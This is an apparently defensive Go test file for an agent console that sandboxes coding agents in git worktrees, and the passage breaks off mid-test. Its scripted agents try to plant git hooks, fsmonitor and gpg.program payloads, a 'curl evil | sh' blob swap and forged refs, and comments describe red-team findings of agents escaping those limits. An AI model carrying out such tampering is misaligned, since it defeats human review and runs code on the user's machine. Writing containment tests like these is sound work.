package e2e

import (
	"bytes"
	"crypto/sha1"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

func git(t *testing.T, dir string, args ...string) string {
	t.Helper()
	out, err := exec.Command("git", append([]string{"-C", dir}, args...)...).CombinedOutput()
	if err != nil {
		t.Fatalf("git %s: %v\n%s", strings.Join(args, " "), err, out)
	}
	return strings.TrimSpace(string(out))
}

// An agent with worktree: true works in a worktree of its own on
// teamlead/<agent>; teamlead worktree lists it, teamlead diff shows what
// it did, teamlead worktree rm refuses while it holds uncommitted work,
// teamlead merge brings its branch in, and a restart finds it again with
// its work untouched.
func TestAgentWorksInItsWorktree(t *testing.T) {
	tm, repo := teamWithRepo(t)
	// The agent reports where it runs, commits one file and leaves another
	// uncommitted.
	// A restart finds the draft and only reports: it must not be written
	// again while the test reads it.
	script := `pwd > "$OUT"; git branch --show-current >> "$OUT"; ` +
		`if [ -e draft.txt ]; then echo restarted >> "$OUT"; exec sleep 600; fi; ` +
		`echo feature > feature.go; git add feature.go; ` +
		`git commit -q -m feature; echo draft > draft.txt; ` +
		// What of the shared git dir runs programs stays read-only (red team 9a).
		`c=$(git rev-parse --git-common-dir); git config -f "$c/config" filter.x.smudge "touch pwned" 2>/dev/null && echo CONFIG-WRITTEN >> "$OUT"; ` +
		`echo '* filter=x' 2>/dev/null > "$c/info/attributes" && echo ATTRIBUTES-WRITTEN >> "$OUT"; ` +
		`echo 'touch pwned' 2>/dev/null > "$c/hooks/pre-merge-commit" && echo HOOK-WRITTEN >> "$OUT"; ` +
		`"$TL" merge dev --yes --config "$CFG" >> "$OUT" 2>&1; ` +
		`"$TL" worktree rm dev --force --config "$CFG" >> "$OUT" 2>&1; echo done >> "$OUT"; exec sleep 600`
	out := filepath.Join(tm.dir, "dev.out")
	tm.extra = "    worktree: true\n    env: {OUT: " + out + ", TL: " + bin.teamlead + ", CFG: " + filepath.Join(tm.dir, "team.yaml") + "}\n"
	tm.write("team.yaml", []agentDef{{name: "dev", dir: repo, command: []string{"/bin/sh", "-c", script}}})
	c := tm.start()
	waitFor(t, 20*time.Second, "the agent to report", func() bool {
		b, _ := os.ReadFile(out)
		return strings.Contains(string(b), "done")
	}, func() string { return c.out.String() })
	b, _ := os.ReadFile(out)
	wantDir := filepath.Join(tm.dir, "app-worktrees", "dev")
	if lines := strings.Split(string(b), "\n"); !sameDir(lines[0], wantDir) || lines[1] != "teamlead/dev" {
		t.Fatalf("the agent ran in %q on %q, want %s on teamlead/dev", lines[0], lines[1], wantDir)
	}
	// The agent's own process may not merge or remove: only the human.
	if n := strings.Count(string(b), "refusing to"); n != 2 {
		t.Errorf("the agent's merge and worktree rm: %d refused, want 2:\n%s", n, b)
	}
	var agentRecs string
	waitFor(t, 10*time.Second, "the agent's running record", func() bool {
		agentRecs, _ = tm.cli("audit", "--kind", "agent", "--format", "json")
		return strings.Contains(agentRecs, `"running"`)
	})
	if strings.Contains(agentRecs, `"isolation":"sandbox`) {
		for _, w := range []string{"CONFIG-WRITTEN", "ATTRIBUTES-WRITTEN", "HOOK-WRITTEN"} {
			if strings.Contains(string(b), w) {
				t.Errorf("the sandboxed agent wrote the shared git dir: %s\n%s", w, b)
			}
		}
	}
	waitFor(t, 10*time.Second, "the worktree record", func() bool {
		o, _ := tm.cli("audit", "--kind", "worktree", "--format", "json")
		return strings.Contains(o, "on branch teamlead/dev")
	}, func() string { o, _ := tm.cli("audit", "--kind", "worktree"); return o + c.out.String() })

	// The agent list says how far its branch is from the human's.
	waitFor(t, 15*time.Second, "teamlead agents to show the branch", func() bool {
		o, _ := tm.cli("agents")
		return strings.Contains(o, "teamlead/dev ↑1↓0 (uncommitted)")
	}, func() string { o, _ := tm.cli("agents"); return o })
	list := tm.mustCLI("worktree")
	if !strings.Contains(list, "teamlead/dev") || !strings.Contains(list, "uncommitted") || !strings.Contains(list, "app-worktrees/dev") {
		t.Errorf("teamlead worktree:\n%s", list)
	}
	stat := tm.mustCLI("diff", "dev", "--stat")
	if !strings.Contains(stat, "feature.go") || !strings.Contains(stat, "draft.txt") {
		t.Errorf("teamlead diff --stat:\n%s", stat)
	}
	if o, err := tm.cli("worktree", "rm", "dev"); err == nil || !strings.Contains(o, "uncommitted") {
		t.Errorf("worktree rm of a worktree with a draft: %v\n%s", err, o)
	}
	if _, err := os.Stat(filepath.Join(wantDir, "draft.txt")); err != nil {
		t.Fatalf("the draft is gone: %v", err)
	}

	// Merged into the human's checkout: the committed file only.
	if o, err := tm.cli("merge", "dev"); err == nil || !strings.Contains(o, "--yes") {
		t.Errorf("merge with no terminal to ask on: %v\n%s", err, o)
	}
	merged := tm.mustCLI("merge", "dev", "--yes")
	if !strings.Contains(merged, "merged teamlead/dev into main") {
		t.Errorf("teamlead merge:\n%s", merged)
	}
	// The console's audit has it, as the human's.
	if audit := tm.mustCLI("audit", "--kind", "worktree"); !strings.Contains(audit, "merged teamlead/dev into main") || !strings.Contains(audit, "human") {
		t.Errorf("the merge is not in the audit:\n%s", audit)
	}
	if _, err := os.Stat(filepath.Join(repo, "feature.go")); err != nil {
		t.Errorf("feature.go not in the human's checkout: %v", err)
	}
	if _, err := os.Stat(filepath.Join(repo, "draft.txt")); err == nil {
		t.Error("the uncommitted draft was merged")
	}

	// A restart finds the same worktree, the draft untouched.
	c.stop()
	if err := os.Remove(out); err != nil {
		t.Fatal(err)
	}
	c = tm.start()
	defer c.stop()
	waitFor(t, 20*time.Second, "the agent to report again", func() bool {
		b, _ := os.ReadFile(out)
		return strings.Contains(string(b), "teamlead/dev\nrestarted")
	}, func() string { return c.out.String() })
	if d, err := os.ReadFile(filepath.Join(wantDir, "draft.txt")); err != nil || string(d) != "draft\n" {
		t.Errorf("the draft after the restart: %q, %v", d, err)
	}
}

// teamWithRepo is a team folder holding a git repository app/ with one
// commit on main; git runs with no machine or user configuration.
func teamWithRepo(t *testing.T) (*team, string) {
	t.Helper()
	for k, v := range map[string]string{"GIT_CONFIG_GLOBAL": os.DevNull, "GIT_CONFIG_NOSYSTEM": "1",
		"GIT_AUTHOR_NAME": "T", "GIT_AUTHOR_EMAIL": "t@example.com", "GIT_COMMITTER_NAME": "T", "GIT_COMMITTER_EMAIL": "t@example.com"} {
		t.Setenv(k, v)
	}
	tm := newTeamWith(t, "")
	repo := filepath.Join(tm.dir, "app")
	git(t, tm.dir, "init", "-q", "-b", "main", repo)
	if err := os.WriteFile(filepath.Join(repo, "README"), []byte("app\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	git(t, repo, "add", "-A")
	git(t, repo, "commit", "-q", "-m", "first")
	return tm, repo
}

func sameDir(a, b string) bool {
	ra, err1 := filepath.EvalSymlinks(a)
	rb, err2 := filepath.EvalSymlinks(b)
	return err1 == nil && err2 == nil && ra == rb
}

// A handoff from an agent in a worktree reaches QA naming the branch and
// the commit checked out there, whatever the agent wrote; printed or sent
// through its teamlead tool.
func TestHandoffNamesTheBranchAndCommit(t *testing.T) {
	printed := `printf '[ROUTE]\nfrom: dev\nto: team-lead\ntype: handoff\ntask: T-1\nbranch: main\ncommit: 0000\nbody: done\n[/ROUTE]\n'`
	tool := `(printf '%s\n' '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}' ` +
		`'{"jsonrpc":"2.0","method":"notifications/initialized"}' ` +
		`'{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"hand_off","arguments":{"task":"T-1","body":"done"}}}'; sleep 3) | "$TL" mcp > /dev/null`
	for name, send := range map[string]string{"printed": printed, "tool": tool} {
		t.Run(name, func(t *testing.T) { handoffNamesTheBranch(t, send) })
	}
}

func handoffNamesTheBranch(t *testing.T, send string) {
	tm, repo := teamWithRepo(t)
	script := `echo x > x.go; git add x.go; git commit -q -m x; ` + send + `; exec sleep 600`
	tm.write("team.yaml", []agentDef{
		{name: "qa", role: "qa", flags: []string{"--raw"}, script: "idle\n"},
		{name: "dev", role: "developer", dir: repo, command: []string{"/bin/sh", "-c", script}},
	})
	// No mandatory consultation holds the handoff back.
	if err := os.WriteFile(filepath.Join(tm.dir, "consultations.yaml"), []byte("mandatory: []\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	b, _ := os.ReadFile(tm.config)
	if err := os.WriteFile(tm.config, append(b, "    worktree: true\n    env: {TL: "+bin.teamlead+"}\n"...), 0o600); err != nil {
		t.Fatal(err)
	}
	c := tm.start()
	defer c.stop()
	waitFor(t, 20*time.Second, "the assignment", func() bool { return strings.Contains(tm.received("qa"), "[/ROUTE]") }, func() string { o, _ := tm.cli("audit"); return o + c.out.String() })
	got := tm.received("qa")
	head := git(t, filepath.Join(tm.dir, "app-worktrees", "dev"), "rev-parse", "HEAD")
	for _, want := range []string{"type: handoff", "branch: teamlead/dev", "commit: " + head} {
		if !strings.Contains(got, want) {
			t.Errorf("QA's assignment lacks %q:\n%s", want, got)
		}
	}
	if strings.Contains(got, "commit: 0000") || strings.Contains(got, "branch: main") {
		t.Errorf("the agent's own branch and commit reached QA:\n%s", got)
	}
}

// Another console's agent cannot write the shared .git of this console's
// worktree agents' repository either: the console registers those paths,
// and every console's sandboxes keep them read-only (red team 10a,
// finding 11: gpg.program written there ran from the human's merge).
func TestOtherTeamsAgentCannotWriteTheSharedGit(t *testing.T) {
	needSandbox(t)
	tm, repo := teamWithRepo(t)
	tm.extra = "    worktree: true\n"
	tm.write("team.yaml", []agentDef{{name: "dev", dir: repo, script: "idle\n"}})
	c := tm.start()
	defer c.stop()
	attempt := filepath.Join(t.TempDir(), "attempt")
	script := fmt.Sprintf(`{ if git config -f %[1]s/.git/config gpg.program /tmp/evil; then echo WROTE-CONFIG; fi
if echo 'touch pwned' > %[1]s/.git/hooks/pre-merge-commit; then echo WROTE-HOOK; fi
echo done; } > %[2]s 2>&1; exec sleep 600`, repo, attempt)
	other := newTeam(t, agentDef{name: "mallory", command: []string{"sh", "-c", script}})
	other.stateHome = filepath.Join(tm.dir, "xdg-state") // the same user's registry
	co := other.start()
	defer co.stop()
	waitFor(t, 30*time.Second, "the other team's agent's attempt", func() bool {
		b, _ := os.ReadFile(attempt)
		return strings.Contains(string(b), "done")
	})
	if b, _ := os.ReadFile(attempt); strings.Contains(string(b), "WROTE") {
		t.Fatalf("another team's agent wrote this team's repository's git dir:\n%s", b)
	}
}

// A worktree agent commits on its own branch, makes branches under
// teamlead/ and stashes, but cannot move the human's branch, write the
// human's checkout, index or HEAD, or merge into them (red team 10a,
// finding 2: an agent merged its branch into the human's main itself).
func TestWorktreeAgentCannotTouchTheHumansCheckout(t *testing.T) {
	needSandbox(t)
	tm, repo := teamWithRepo(t)
	main := git(t, repo, "rev-parse", "main")
	out := filepath.Join(tm.dir, "dev.out")
	script := `exec > "$OUT" 2>&1
did() { if "$@" >/dev/null 2>&1; then echo "DID: $*"; else echo "FAILED: $*"; fi; }
did sh -c 'echo f > f.go && git add f.go && git commit -q -m f'
did git branch teamlead/dev-spare
did sh -c 'echo d > d.txt && git stash -q -u && git stash pop -q'
did sh -c "echo pwned > $REPO/pwned"
did sh -c "echo changed >> $REPO/README"
did git update-ref refs/heads/main HEAD
did git update-ref refs/replace/$(git rev-parse HEAD) HEAD
did git branch evil
did sh -c "cd $REPO && git merge -q --no-edit teamlead/dev"
did sh -c ": > $REPO/.git/index"
did sh -c "echo ref: refs/heads/teamlead/dev > $REPO/.git/HEAD"
did sh -c "cd $REPO && git update-ref refs/heads/main teamlead/dev"
did sh -c "echo x > $REPO/.git/objects/info/main/pack/evil.pack"
did sh -c "o=$REPO/.git/objects/info/main/$MAINOBJ; chmod u+w \$o; echo x > \$o"
did sh -c "mv $REPO/.git/objects/info/main/$MAINOBJ $REPO/.git/objects/info/main/${MAINOBJ%%/*}/x"
did sh -c "echo $REPO/elsewhere > $REPO/.git/objects/info/main/info/alternates"
did git update-ref refs/main HEAD
did git tag v9
did sh -c "echo x >> $REPO/.git/logs/HEAD"
did git fetch -q $REPO main:refs/remotes/origin/main
echo done; exec sleep 600`
	mainObj := git(t, repo, "rev-parse", "main")
	tm.extra = "    worktree: true\n    env: {OUT: " + out + ", REPO: " + repo + ", MAINOBJ: " + mainObj[:2] + "/" + mainObj[2:] + "}\n"
	tm.write("team.yaml", []agentDef{{name: "dev", dir: repo, command: []string{"/bin/sh", "-c", script}}})
	c := tm.start()
	defer c.stop()
	checkAttempts(t, c, out, 20, 0, 1, 19)
	waitCommitted(t, c, repo, "teamlead/dev", "f")
	// Its fetch went to its own remote-tracking refs (red team 14a,
	// finding 7: it forged origin/main).
	if out, err := exec.Command("git", "-C", repo, "rev-parse", "-q", "--verify", "refs/remotes/origin/main").CombinedOutput(); err == nil {
		t.Errorf("the agent's fetch wrote the human's origin/main: %s", out)
	}
	// Its commit went to its own object folder (the console copies it,
	// checked), and the human's objects are as they were (red team 12a,
	// finding 2).
	commit := git(t, repo, "rev-parse", "teamlead/dev")
	if _, err := os.Stat(filepath.Join(repo, ".git", "teamlead-objects", "dev", commit[:2], commit[2:])); err != nil {
		t.Errorf("the agent's commit %s is not in its own folder: %v", commit, err)
	}
	if got := git(t, repo, "cat-file", "-t", mainObj); got != "commit" {
		t.Errorf("the human's HEAD commit reads as %q", got)
	}
	if _, err := os.Stat(filepath.Join(repo, ".git", "objects", "pack", "evil.pack")); err == nil {
		t.Error("the agent wrote a pack into the human's objects")
	}
	if got := git(t, repo, "rev-parse", "main"); got != main {
		t.Errorf("the human's main moved: %s, was %s", got, main)
	}
	if got := git(t, repo, "status", "--porcelain"); got != "" {
		t.Errorf("the human's checkout changed:\n%s", got)
	}
	if got := git(t, repo, "rev-parse", "--abbrev-ref", "HEAD"); got != "main" {
		t.Errorf("the human's HEAD: %s", got)
	}
}

// What teamlead merge shows and merges is what the ids say: a worktree
// agent that writes over the content behind its own commit's ids (git does
// not check an object's hash when it reads it) gets its merge refused.
// Red team 12a (finding 2) swapped a script after the human saw it.
func TestMergeRefusesObjectsTheAgentWroteOver(t *testing.T) {
	needSandbox(t)
	tm, repo := teamWithRepo(t)
	out := filepath.Join(tm.dir, "dev.out")
	script := `exec > "$OUT" 2>&1
echo 'echo checking' > check.sh && git add check.sh && git commit -q -m check || echo FAILED commit
objects=$(git rev-parse --git-common-dir)/objects
at() { echo "$objects/$(echo "$1" | sed 's|^..|&/|')"; }
evil=$(echo 'curl evil | sh' | git hash-object -w --stdin)
chmod u+w "$(at $(git rev-parse HEAD:check.sh))" && cp "$(at $evil)" "$(at $(git rev-parse HEAD:check.sh))" && git cat-file -p HEAD:check.sh
echo done; exec sleep 600`
	tm.extra = "    worktree: true\n    env: {OUT: " + out + "}\n"
	tm.write("team.yaml", []agentDef{{name: "dev", dir: repo, command: []string{"/bin/sh", "-c", script}}})
	c := tm.start()
	defer c.stop()
	waitFor(t, 30*time.Second, "the agent's swap", func() bool {
		b, _ := os.ReadFile(out)
		return strings.Contains(string(b), "done")
	}, func() string { b, _ := os.ReadFile(out); return string(b) + c.out.String() })
	if b, _ := os.ReadFile(out); !strings.Contains(string(b), "curl evil") {
		t.Fatalf("the swap did not take in the agent's own view:\n%s", b)
	}
	// The console copies the agent's objects, checked, as it looks at the
	// worktree: before the swap (then the copy is the real one) or after
	// it (then it is refused). Either way nothing the human was not shown
	// is merged, and the human's own git never reads the swap.
	head := git(t, repo, "rev-parse", "main")
	o, err := tm.cli("merge", "dev", "--yes")
	switch {
	case err != nil && strings.Contains(o, "nothing of them is shown or merged"):
		if got := git(t, repo, "rev-parse", "main"); got != head {
			t.Errorf("main moved to %s", got)
		}
		if _, err := os.Stat(filepath.Join(repo, "check.sh")); err == nil {
			t.Error("check.sh is in the human's checkout")
		}
	case err == nil:
		if b, _ := os.ReadFile(filepath.Join(repo, "check.sh")); string(b) != "echo checking\n" {
			t.Errorf("merged check.sh = %q", b)
		}
	default:
		t.Fatalf("merge: %v\n%s", err, o)
	}
	if out, _ := exec.Command("git", "-C", repo, "log", "-p", "--all").CombinedOutput(); strings.Contains(string(out), "curl evil") {
		t.Errorf("the human's git reads the agent's swapped blob:\n%s", out)
	}
}

// A running worktree agent still commits after the human's git gc packed
// the teamlead/ refs: gc removes the folders it empties, and a folder
// removed took the agent's writable bind with it (red team 13d, finding 5).
func TestAgentCommitsAfterTheHumansGC(t *testing.T) {
	needSandbox(t)
	tm, repo := teamWithRepo(t)
	out := filepath.Join(tm.dir, "dev.out")
	goOn := filepath.Join(tm.dir, "go-on")
	script := `exec > "$OUT" 2>&1
echo one > a.txt && git add a.txt && git commit -q -m one && echo DID: first || echo FAILED: first
while [ ! -e "$GOON" ]; do sleep 0.1; done
echo two > b.txt && git add b.txt && git commit -q -m two && echo DID: second || echo FAILED: second
echo done; exec sleep 600`
	tm.extra = "    worktree: true\n    env: {OUT: " + out + ", GOON: " + goOn + "}\n"
	tm.write("team.yaml", []agentDef{{name: "dev", dir: repo, command: []string{"/bin/sh", "-c", script}}})
	c := tm.start()
	defer c.stop()
	waitFor(t, 30*time.Second, "the first commit", func() bool {
		b, _ := os.ReadFile(out)
		return strings.Contains(string(b), "first")
	}, func() string { b, _ := os.ReadFile(out); return string(b) + c.out.String() })
	waitCommitted(t, c, repo, "teamlead/dev", "one")
	git(t, repo, "gc", "-q")
	git(t, repo, "pack-refs", "--all", "--prune")
	if err := os.WriteFile(goOn, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	checkAttempts(t, c, out, 2, 0, 1)
}

// Each worktree agent's branch is its own: qa moves dev's branch in its
// sandbox, and only its own copy changes; what the human merges as dev's
// work is dev's (red team 12a, finding 7: the teamlead/ branches shared
// one writable folder). qa still sees dev's commits on teamlead/dev.
func TestAgentCannotMoveAnotherAgentsBranch(t *testing.T) {
	needSandbox(t)
	tm, repo := teamWithRepo(t)
	out := filepath.Join(tm.dir, "qa.out")
	dev := `echo d > d.txt && git add d.txt && git commit -q -m d1 && exec sleep 600`
	qa := `exec > "$OUT" 2>&1
n=0; until [ "$(git log -1 --format=%s teamlead/dev 2>/dev/null)" = d1 ] || [ $n -ge 300 ]; do sleep 0.1; n=$((n+1)); done
[ "$(git log -1 --format=%s teamlead/dev)" = d1 ] && echo "DID: saw dev's commit" || echo "FAILED: saw dev's commit"
did() { if "$@" >/dev/null 2>&1; then echo "DID: $*"; else echo "FAILED: $*"; fi; }
did sh -c 'echo q > q.txt && git add q.txt && git commit -q -m q1'
did git update-ref refs/heads/teamlead/dev HEAD
echo done; exec sleep 600`
	tm.extra = "    worktree: true\n    env: {OUT: " + out + "}\n"
	tm.write("team.yaml", []agentDef{
		{name: "dev", dir: repo, command: []string{"/bin/sh", "-c", dev}, restart: "never\n    worktree: true"},
		{name: "qa", dir: repo, command: []string{"/bin/sh", "-c", qa}}})
	c := tm.start()
	defer c.stop()
	checkAttempts(t, c, out, 3, 0, 1, 2)
	waitCommitted(t, c, repo, "teamlead/qa", "q1")
	// The look that took q1 put the repository's teamlead/dev back in
	// qa's folder.
	copyOfDev := filepath.Join(repo, ".git", "teamlead-refs", "qa", "heads", "dev")
	waitFor(t, 20*time.Second, "qa's copy of teamlead/dev put back", func() bool {
		b, _ := os.ReadFile(copyOfDev)
		return strings.TrimSpace(string(b)) == git(t, repo, "rev-parse", "teamlead/dev")
	}, func() string { return c.out.String() })
	if got := git(t, repo, "log", "-1", "--format=%s", "teamlead/dev"); got != "d1" {
		t.Errorf("teamlead/dev after qa moved it: %q", got)
	}
	if o, err := tm.cli("merge", "dev", "--yes"); err != nil {
		t.Fatalf("merge: %v\n%s", err, o)
	}
	if _, err := os.Stat(filepath.Join(repo, "q.txt")); err == nil {
		t.Error("qa's work was merged as dev's")
	}
}

// A worktree agent cannot point the human's own git at a configuration of
// its making: the files by which git finds the repository from its
// worktree (the worktree's .git, its git dir's commondir and gitdir, and
// config.worktree) are read-only in its sandbox, as the checkout's .git
// is. Red team 11a (finding 1, variant 1b) wrote its git dir's commondir,
// and the human's `git status` in the agent's worktree ran its fsmonitor.
func TestWorktreeAgentCannotRedirectTheHumansGit(t *testing.T) {
	needSandbox(t)
	tm, repo := teamWithRepo(t)
	out := filepath.Join(tm.dir, "dev.out")
	ran := filepath.Join(tm.dir, "ran")
	evil := filepath.Join(tm.dir, "evil")
	script := `exec > "$OUT" 2>&1
did() { if sh -c "$1" >/dev/null 2>&1; then r=DID; else r=FAILED; fi; echo "$r: $1" | tr '\n' ' '; echo; }
gd=$(git rev-parse --absolute-git-dir)
mkdir -p "$EVIL/common" "$EVIL/wt"
for f in objects refs logs worktrees HEAD; do ln -s "$REPO/.git/$f" "$EVIL/common/$f"; done
printf '#!/bin/sh\necho "$0" >> %s\nexit 1\n' "$RAN" > "$EVIL/fsmon.sh"; chmod +x "$EVIL/fsmon.sh"
printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = %s\n' "$EVIL/fsmon.sh" > "$EVIL/common/config"
cp -r "$gd/." "$EVIL/wt/"; echo "$EVIL/common" > "$EVIL/wt/commondir"
did "echo $EVIL/common > $REPO/.git/commondir"
did "echo x > f.go && git add f.go && git commit -q -m f"
did "mv $gd/commondir $gd/commondir.old && mv $gd/commondir.old $gd/commondir"
did "mv .git .git.old && mv .git.old .git"
did "echo $EVIL/wt/.git > $gd/gitdir"
did "printf '[core]\n\tfsmonitor = $EVIL/fsmon.sh\n' > $gd/config.worktree"
did "echo gitdir: $EVIL/wt > .git"
did "echo $EVIL/common > $gd/commondir"
did "echo 0000000000000000000000000000000000000000 > $gd/teamlead-base"
echo done; exec sleep 600`
	tm.extra = "    worktree: true\n    env: {OUT: " + out + ", REPO: " + repo + ", EVIL: " + evil + ", RAN: " + ran + "}\n"
	tm.write("team.yaml", []agentDef{{name: "dev", dir: repo, command: []string{"/bin/sh", "-c", script}}})
	c := tm.start()
	defer c.stop()
	checkAttempts(t, c, out, 9, 1)
	// The human looks at the agent's work with their own git, in the
	// worktree and in the checkout.
	wt := filepath.Join(tm.dir, "app-worktrees", "dev")
	waitCommitted(t, c, repo, "teamlead/dev", "f")
	for _, dir := range []string{wt, repo} {
		cmd := exec.Command("git", "status", "--short")
		cmd.Dir = dir
		if o, err := cmd.CombinedOutput(); err != nil {
			t.Errorf("git status in %s: %v\n%s", dir, err, o)
		}
	}
	if got, err := os.ReadFile(ran); err == nil {
		t.Errorf("the agent's fsmonitor ran in the human's git: %s", got)
	}
	if got := git(t, repo, "log", "-1", "--format=%s", "teamlead/dev"); got != "f" {
		t.Errorf("the agent's own commit: %q", got)
	}
}

// No other agent can either: one with no worktree, working outside the
// repository, finds the worktree's .git file, its git dir's commondir and
// config.worktree, and the submodules' git dirs read-only (red team 12a,
// finding 1: it wrote dev's commondir, and the human's git status in dev's
// worktree ran its fsmonitor), and the user's own git configuration too
// (finding 4: ~/.gitconfig's fsmonitor ran in every repository), and the
// repository's objects and the worktree agents' (finding 2: git reads an
// object written over without checking its hash), and another agent's
// worktree (red team 13a, finding 6).
func TestOtherAgentCannotRedirectAWorktree(t *testing.T) {
	needSandbox(t)
	tm, repo := teamWithRepo(t)
	out := filepath.Join(tm.dir, "qa.out")
	wt := filepath.Join(tm.dir, "app-worktrees", "dev")
	gd := filepath.Join(repo, ".git", "worktrees", "dev")
	elsewhere := filepath.Join(tm.dir, "elsewhere")
	if err := os.Mkdir(elsewhere, 0o755); err != nil {
		t.Fatal(err)
	}
	// A home of the test's: the attempts must not reach the real one.
	home := filepath.Join(tm.dir, "home")
	if err := os.Mkdir(home, 0o700); err != nil {
		t.Fatal(err)
	}
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", "")
	mainObj := git(t, repo, "rev-parse", "main")
	script := fmt.Sprintf(`exec > %[1]q 2>&1
did() { if sh -c "$1" >/dev/null 2>&1; then r=DID; else r=FAILED; fi; echo "$r: $1"; }
until [ -e %[2]q/.git ]; do sleep 0.05; done
did "echo %[5]s > %[3]s/commondir"
did "echo gitdir: %[5]s > %[2]s/.git"
did "echo x >> %[3]s/config.worktree"
did "mkdir -p %[4]s/.git/modules/sub"
did "echo x >> %[4]s/.git/config"
did "echo x >> %[6]s/.gitconfig"
did "mkdir -p %[6]s/.config/git && echo x > %[6]s/.config/git/config"
did "echo x > %[4]s/.git/objects/pack/evil.pack"
did "o=%[4]s/.git/objects/%[7]s; chmod u+w \$o; echo x > \$o"
did "mkdir -p %[4]s/.git/teamlead-objects/dev/ab"
did "echo x > %[2]s/planted-by-qa"
did "echo fine > %[5]s/notes"
echo done; exec sleep 600`, out, wt, gd, repo, elsewhere, home, mainObj[:2]+"/"+mainObj[2:])
	tm.extra = "    worktree: true\n"
	tm.write("team.yaml", []agentDef{
		{name: "qa", dir: elsewhere, command: []string{"/bin/sh", "-c", script}},
		{name: "dev", dir: repo, command: []string{"/bin/sh", "-c", "exec sleep 600"}}})
	c := tm.start()
	defer c.stop()
	checkAttempts(t, c, out, 12, 11)
	if got := git(t, repo, "cat-file", "-t", mainObj); got != "commit" {
		t.Errorf("the human's HEAD commit reads as %q", got)
	}
	if got := git(t, wt, "rev-parse", "--abbrev-ref", "HEAD"); got != "teamlead/dev" {
		t.Errorf("dev's worktree: %q", got)
	}
}

// An agent that works in the checkout itself (no worktree) keeps what of
// its .git runs programs read-only, and cannot point the human's git at a
// configuration of its own: red team 13a (finding 2) wrote .git/commondir,
// leading git to a config whose fsmonitor ran at the human's git status.
func TestCheckoutAgentCannotRedirectTheHumansGit(t *testing.T) {
	needSandbox(t)
	tm, repo := teamWithRepo(t)
	out := filepath.Join(tm.dir, "docs.out")
	ran := filepath.Join(tm.dir, "ran")
	evil := filepath.Join(tm.dir, "evil")
	script := `exec > "$OUT" 2>&1
did() { if sh -c "$1" >/dev/null 2>&1; then r=DID; else r=FAILED; fi; echo "$r: $1" | tr '\n' ' '; echo; }
mkdir -p "$EVIL/common"
for f in objects refs logs HEAD; do ln -s "$REPO/.git/$f" "$EVIL/common/$f"; done
printf '#!/bin/sh\necho "$0" >> %s\nexit 1\n' "$RAN" > "$EVIL/fsmon.sh"; chmod +x "$EVIL/fsmon.sh"
printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = %s\n' "$EVIL/fsmon.sh" > "$EVIL/common/config"
did "echo x > f.go && git add f.go && git commit -q -m f"
did "echo $EVIL/common > .git/commondir"
did "rm -f .git/commondir"
did "mv .git/commondir .git/cd.old"
did "printf '[core]\n\tfsmonitor = $EVIL/fsmon.sh\n' >> .git/config"
did "echo x > .git/hooks/pre-commit"
did "printf '[core]\n\tfsmonitor = $EVIL/fsmon.sh\n' >> .git/config.worktree"
did "git update-ref refs/replace/\$(git rev-parse HEAD) HEAD~1"
did "git update-ref refs/remotes/origin/main HEAD"
did "echo \$(git rev-parse HEAD) refs/replace/\$(git rev-parse HEAD) >> .git/packed-refs"
did "git update-ref refs/heads/teamlead/dev HEAD"
echo done; exec sleep 600`
	tm.extra = "    env: {OUT: " + out + ", REPO: " + repo + ", EVIL: " + evil + ", RAN: " + ran + "}\n"
	tm.write("team.yaml", []agentDef{{name: "docs", dir: repo, command: []string{"/bin/sh", "-c", script}}})
	c := tm.start()
	defer c.stop()
	checkAttempts(t, c, out, 11, 0)
	// Its commit reaches the human's git once the console copied it.
	waitCommitted(t, c, repo, "main", "f")
	// config.worktree counts once the human turns on worktree configs
	// (git sparse-checkout init does).
	git(t, repo, "config", "extensions.worktreeConfig", "true")
	cmd := exec.Command("git", "status", "--short")
	cmd.Dir = repo
	if o, err := cmd.CombinedOutput(); err != nil {
		t.Errorf("git status: %v\n%s", err, o)
	}
	if got, err := os.ReadFile(ran); err == nil {
		t.Errorf("the agent's fsmonitor ran in the human's git: %s", got)
	}
	if got := git(t, repo, "log", "-1", "--format=%s"); got != "f" {
		t.Errorf("the agent's own commit: %q", got)
	}
}

// An agent that works in the checkout itself writes the .git as it must,
// but not a worktree agent's own git dir (HEAD, index, a rebase's todo)
// nor its object folder, nor the repository's alternates (red team 13c,
// finding 4).
func TestCheckoutAgentCannotWriteAWorktreeAgentsGit(t *testing.T) {
	needSandbox(t)
	tm, repo := teamWithRepo(t)
	out := filepath.Join(tm.dir, "docs.out")
	gd := filepath.Join(repo, ".git")
	script := fmt.Sprintf(`exec > %[1]q 2>&1
did() { if sh -c "$1" >/dev/null 2>&1; then r=DID; else r=FAILED; fi; echo "$r: $1"; }
until [ -e %[2]q/worktrees/dev/HEAD ]; do sleep 0.05; done
did "echo x > %[2]s/worktrees/dev/probe"
did "mkdir -p %[2]s/worktrees/dev/rebase-merge"
did "echo x > %[2]s/teamlead-objects/dev/probe"
did "echo /tmp > %[2]s/objects/info/alternates"
did "echo x > f.go && git add f.go && git commit -q -m f"
echo done; exec sleep 600`, out, gd)
	tm.extra = "    worktree: true\n"
	tm.write("team.yaml", []agentDef{
		{name: "docs", dir: repo, command: []string{"/bin/sh", "-c", script}},
		{name: "dev", dir: repo, command: []string{"/bin/sh", "-c", "exec sleep 600"}}})
	c := tm.start()
	defer c.stop()
	checkAttempts(t, c, out, 5, 4)
}

// An agent working in the checkout itself writes its objects to a folder
// of its own, the checkout's read-only behind them, and the console copies
// its commits, checked, within seconds: red team 14a (finding 1) swapped
// the content behind a blob id between teamlead diff and teamlead merge.
func TestCheckoutAgentWritesObjectsOfItsOwn(t *testing.T) {
	needSandbox(t)
	tm, repo := teamWithRepo(t)
	out := filepath.Join(tm.dir, "co.out")
	readme := git(t, repo, "rev-parse", "HEAD:README")
	script := `exec > "$OUT" 2>&1
did() { if sh -c "$1" >/dev/null 2>&1; then r=DID; else r=FAILED; fi; echo "$r: $1"; }
did "echo x > f.txt && git add f.txt && git commit -q -m co1"
did "git cat-file -e $BLOB"
